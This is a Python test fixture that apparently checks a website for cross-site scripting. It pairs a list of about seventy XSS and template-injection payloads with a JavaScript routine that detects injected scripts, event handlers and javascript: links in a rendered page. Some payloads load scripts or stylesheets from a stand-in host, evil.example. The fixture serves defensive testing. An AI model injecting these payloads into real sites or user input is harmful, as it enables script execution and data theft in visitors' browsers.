"""What people have put into fields to make other people's browsers run it. Each calls ``alert`` or sets ``hacked``."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=hacked=1>",
    "<img src='x' onerror='alert(1)'//",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img srcset=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '[x](http://example.vn "onmouseover=alert(1) x=")',
    "<javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "{{ 7*7 }}{% import os %}${7*7}<%= 7*7 %>",
    "{{ constructor.constructor('alert(1)')() }}",
    "javascript:alert(1)",
    "\"onmouseover='alert(1)' autofocus onfocus='alert(1)' x=\"",
    "'-alert(1)-'",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
)

UNWANTED = """() => {
  const found = [];
  if (window.hacked) found.push("hacked");
  const known = new RegExp("^" + location.origin + "/(giao-dien|assets)/");
  for (const one of document.querySelectorAll("script")) {
    const isOurs = one.src ? known.test(one.src) : !/alert|hacked|evil/.test(one.textContent);
    if (!isOurs) found.push(one.outerHTML);
  }
  const active = "iframe, object, embed, base, math, svg script, svg animate, meta[http-equiv], link[href*=evil]";
  found.push(...[...document.querySelectorAll(active)].map((one) => one.outerHTML));
  for (const one of document.querySelectorAll("*")) {
    for (const attribute of one.attributes) {
      const isCode = /^on/i.test(attribute.name) || /^[\\s\\0-\\x20]*(javascript|data:text)/i.test(attribute.value);
      const isAddress = /^(href|src|action|formaction|xlink:href|srcset|data)$/.test(attribute.name);
      if (/^on/i.test(attribute.name) || (isAddress && isCode)) found.push(one.outerHTML.slice(0, 300));
      if (attribute.name === "style" && /url\\(|expression/.test(attribute.value)) found.push(one.outerHTML);
    }
  }
  return found;
}"""
"""Returns what a page holds that a payload would have brought; the site's own scripts are known."""
